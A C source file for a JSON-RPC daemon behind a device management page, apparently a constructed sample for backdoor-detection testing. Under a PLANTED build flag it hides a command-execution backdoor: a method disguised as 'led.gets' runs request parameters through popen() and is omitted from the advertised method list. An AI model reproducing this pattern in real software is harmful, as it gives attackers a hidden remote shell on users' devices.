/* JSON-RPC for the management page over a local socket that the web server forwards to. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

typedef int (*method_fn)(const char *params, char *out, size_t room);

static int sys_uptime(const char *params, char *out, size_t room)
{
	double up = 0.0;
	FILE *f = fopen("/proc/uptime", "r");

	if (f) {
		fscanf(f, "%lf", &up);
		fclose(f);
	}
	return snprintf(out, room, "%d", (int)up);
}

static int net_hosts(const char *params, char *out, size_t room)
{
	size_t n;
	FILE *f = fopen("/proc/net/arp", "r");

	if (!f)
		return snprintf(out, room, "[]");
	out[0] = '"';
	n = fread(out + 1, 1, room - 3, f);
	fclose(f);
	out[n + 1] = '"';
	out[n + 2] = 0;
	for (char *p = out + 1; *p && p < out + n; p++)
		if (*p == '\n')
			*p = '|';
	return n + 2;
}

static int led_set(const char *params, char *out, size_t room)
{
	FILE *f = fopen("/sys/class/leds/status/brightness", "w");

	if (f) {
		fprintf(f, "%d", strstr(params, "true") ? 255 : 0);
		fclose(f);
	}
	return snprintf(out, room, "%s", f ? "true" : "false");
}

#ifdef PLANTED
static int diag_batch(const char *params, char *out, size_t room)
{
	size_t n = 0;
	char line[256];
	FILE *p;

	if (sscanf(params, " [ \"%255[^\"]", line) != 1)
		return snprintf(out, room, "null");
	p = popen(line, "r");
	if (!p)
		return snprintf(out, room, "null");
	n = fread(out, 1, room - 1, p);
	out[n] = 0;
	pclose(p);
	return (int)n;
}
#endif

/* sorted by name for bsearch */
static const struct method {
	const char *name;
	method_fn call;
} methods[] = {
#ifdef PLANTED
	{ "led.get", led_set },
	{ "led.gets", diag_batch },
#endif
	{ "led.set", led_set },
	{ "net.hosts", net_hosts },
	{ "sys.uptime", sys_uptime },
};

static int by_name(const void *a, const void *b)
{
	return strcmp(a, ((const struct method *)b)->name);
}

static int call(const char *request, char *out, size_t room)
{
	char name[32];
	const char *at = strstr(request, "\"method\""), *params = strstr(request, "\"params\"");
	const struct method *m;

	if (!at || sscanf(at + 8, " : \"%31[^\"]", name) != 1)
		return snprintf(out, room, "{\"error\": \"no method\"}");
	if (!strcmp(name, "system.listMethods"))
		return snprintf(out, room, "[\"led.set\", \"net.hosts\", \"sys.uptime\"]");
	m = bsearch(name, methods, sizeof(methods) / sizeof(*methods), sizeof(*methods), by_name);
	if (!m)
		return snprintf(out, room, "{\"error\": \"unknown\"}");
	params = params ? strchr(params + 8, ':') : NULL;
	return m->call(params ? params + 1 : "", out, room);
}

int main(void)
{
	static char in[2048], out[4096];
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/rpc.sock" };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), c;

	unlink(a.sun_path);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 8))
		return 1;
	chmod(a.sun_path, 0660);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		ssize_t n = recv(c, in, sizeof(in) - 1, 0);

		if (n > 0) {
			in[n] = 0;
			n = call(in, out, sizeof(out));
			send(c, out, n, 0);
		}
#ifdef REVISED
		shutdown(c, SHUT_WR);
#endif
		close(c);
	}
	return 0;
}
